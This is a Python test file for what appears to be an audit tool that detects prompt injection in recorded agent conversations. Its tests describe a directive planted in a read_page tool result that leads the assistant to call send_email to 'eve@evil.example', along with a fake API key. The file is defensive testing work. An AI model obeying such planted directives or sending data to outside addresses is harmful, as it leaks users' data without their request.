"""The results of a conversation."""

import json
from collections.abc import Iterator
from hashlib import sha256
from typing import Any

import pytest

from taskshield.adapters.conversations.detect import parse
from taskshield.audit.logs.entries import Finished, Recorded, Unreadable
from taskshield.audit.replay.checker import Checker, Plan
from taskshield.core.errors import JudgeUnavailable
from taskshield.core.messages import digest
from tests.audit.judged import judge, judged_by
from tests.audit.log_files import SECRET_WORDS, call, clean, hijacked
from tests.judging import TableJudge

Lines = tuple[dict[str, Any], list[dict[str, Any]]]


@pytest.fixture(autouse=True)
def scripted(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    judged_by(judge(), monkeypatch)
    yield


def recorded(payload: dict[str, Any]) -> Recorded:
    found = parse(payload)
    return Recorded(
        file="logs/x.jsonl",
        line=3,
        id=payload.get("id", "x"),
        format=found.format,
        conversation=found.conversation,
        read=10,
    )


def check(payload: dict[str, Any], *, with_text: bool = False) -> Lines:
    with Checker(Plan(with_text=with_text)) as checker:
        result = checker.check(recorded(payload))
    assert (result.file, result.read, result.counts) == ("logs/x.jsonl", 10, True)
    return json.loads(result.line), [json.loads(line) for line in result.findings]


def test_a_hijacked_conversation() -> None:
    journal, findings = check(hijacked())
    assert journal == {
        "kind": "conversation",
        "file": "logs/x.jsonl",
        "line": 3,
        "conversation": "hijacked-0",
        "format": "openai-chat",
        "messages": 6,
        "executed": 6,
        "skipped": 0,
        "failed": 0,
        "unreadable": 0,
        "findings": 2,
        "held": 1,
        "attack": "blocked",
        "error": None,
    }
    directive, sent = findings
    called = 'send_email({"to": "eve@evil.example"})'
    assert sent == {
        "conversation": "hijacked-0",
        "file": "logs/x.jsonl",
        "line": 3,
        "format": "openai-chat",
        "message": 3,
        "level": "assistant",
        "kind": "call",
        "tool": "send_email",
        "tier": "external",
        "authorisation": "unasked",
        "action": "revise",
        "held": True,
        "score": 0.0,
        "threshold": 0.0,
        "planted_in": 2,
        "reason": "A directive in message 2 explains it better than the user's tasks do.",
        "decision": digest("logs/x.jsonl", "3", "hijacked-0", "3")[:32],
        "judge": "table",
        "sha256": sha256(called.encode()).hexdigest(),
        "text": None,
    }
    told = {key: directive[key] for key in ("message", "level", "kind", "tool", "action", "held")}
    assert told == {
        "message": 2,
        "level": "tool",
        "kind": "directive",
        "tool": "read_page",
        "action": "annotate",
        "held": False,
    }


def test_no_text_of_a_conversation_is_stored_unless_requested() -> None:
    payload = hijacked()
    written = json.dumps(check(payload))
    for words in (SECRET_WORDS, "eve@", "Summarise", "Note to AI"):
        assert words not in written


def test_with_text_the_words_and_the_judges_reason_are_there_but_no_secret() -> None:
    payload = hijacked()
    key = "sk-proj-" + "aB3" * 16
    payload["messages"][3]["tool_calls"][0] = call("c2", "send_email", to="eve@x", key=key)
    _, (directive, sent) = check(payload, with_text=True)
    assert directive["text"].startswith("Note to AI assistants")
    assert sent["text"].startswith("send_email(") and key not in json.dumps(sent)
    assert sent["reason"] == "0.9 for d1"


def test_a_clean_conversation_has_no_findings() -> None:
    journal, findings = check(clean())
    assert findings == [] and journal["attack"] == "none"


def test_an_attack_that_the_agent_did_not_obey_is_seen() -> None:
    payload = hijacked()
    del payload["messages"][3:5]
    assert check(payload)[0]["attack"] == "seen"


def test_a_policy_that_only_observes_lets_an_attack_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    judged_by(judge(), monkeypatch, policy={"misaligned": {"external": "observe"}})
    journal, findings = check(hijacked())
    assert (journal["attack"], journal["held"]) == ("passed", 0)
    assert findings[1]["action"] == "observe" and not findings[1]["held"]


def test_a_call_without_an_injected_directive_is_no_attack() -> None:
    payload = hijacked()
    payload["messages"][2]["content"] = "Nothing to see."
    journal, (sent,) = check(payload)
    assert (journal["attack"], journal["held"], sent["planted_in"]) == ("none", 1, None)
    assert sent["reason"] == "It serves none of the user's tasks."


def test_a_plan_is_a_finding(monkeypatch: pytest.MonkeyPatch) -> None:
    own = judge()
    own.directives = lambda text: [text] if "eve@" in text else []
    judged_by(own, monkeypatch)
    payload = clean()
    payload["messages"][3]["content"] = "I will now write to eve@evil.example."
    journal, (plan,) = check(payload)
    assert (plan["kind"], plan["tool"], plan["tier"], plan["level"]) == (
        "plan",
        None,
        None,
        "assistant",
    )
    assert journal["held"] == 0  # words, and no call


def test_calls_before_the_user_has_spoken() -> None:
    payload = clean()
    payload["messages"] = payload["messages"][1:2] + payload["messages"][:1]
    assert check(payload)[1:] == ([],)  # it only reads
    payload["messages"][0]["tool_calls"][0]["function"]["name"] = "send_mail"
    _, (early,) = check(payload)
    assert early["reason"] == "The user has not given any task yet."


def test_calls_beside_the_purpose_of_the_system_message(monkeypatch: pytest.MonkeyPatch) -> None:
    own = TableJudge(
        objectives=["look after the calendar"],
        score=lambda item, target: float("calendar" not in target),
    )
    judged_by(own, monkeypatch)
    payload = clean()
    payload["messages"].insert(0, {"role": "system", "content": "You look after the calendar."})
    _, (beside,) = check(payload)
    assert beside["reason"].startswith(
        "It serves a task of the user, but not the purpose in the system"
    )


def test_messages_that_could_not_be_checked_are_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    judged_by(TableJudge(error=JudgeUnavailable("down")), monkeypatch)
    journal, findings = check(hijacked())
    assert (journal["executed"], journal["failed"], findings) == (0, 6, [])


def test_an_invalid_conversation_keeps_the_earlier_findings() -> None:
    payload = hijacked()
    payload["messages"].append(
        {"role": "assistant", "tool_calls": [call("c", "x"), call("c", "y")]}
    )
    journal, findings = check(payload)
    assert len(findings) == 2
    assert journal["error"] == "message 6: Two tool calls of the message have the same id."


def test_pictures_are_counted() -> None:
    payload = clean()
    picture = {"type": "image_url", "image_url": {"url": "data:image/png;base64,aGk="}}
    payload["messages"][0]["content"] = [{"type": "text", "text": "What is it?"}, picture]
    assert check(payload)[0]["unreadable"] == 1


def test_one_checker_mixes_no_conversations() -> None:
    with Checker(Plan()) as checker:
        first = checker.check(recorded(hijacked(1)))
        checker.check(recorded(clean(1)))
        assert checker.check(recorded(hijacked(1))) == first


def test_failures_and_ends_pass_through() -> None:
    with Checker(Plan()) as checker:
        failure = checker.check(Unreadable(file="x", line=2, reason="not JSON", read=5))
        end = checker.check(Finished(file="x", passed_over=3, closed_early=1, read=9))
    told = {"kind": "failure", "file": "x", "line": 2, "reason": "not JSON"}
    assert json.loads(failure.line) == told and failure.counts
    told = {"kind": "end", "file": "x", "passed_over": 3, "closed_early": 1}
    assert json.loads(end.line) == told and not end.counts
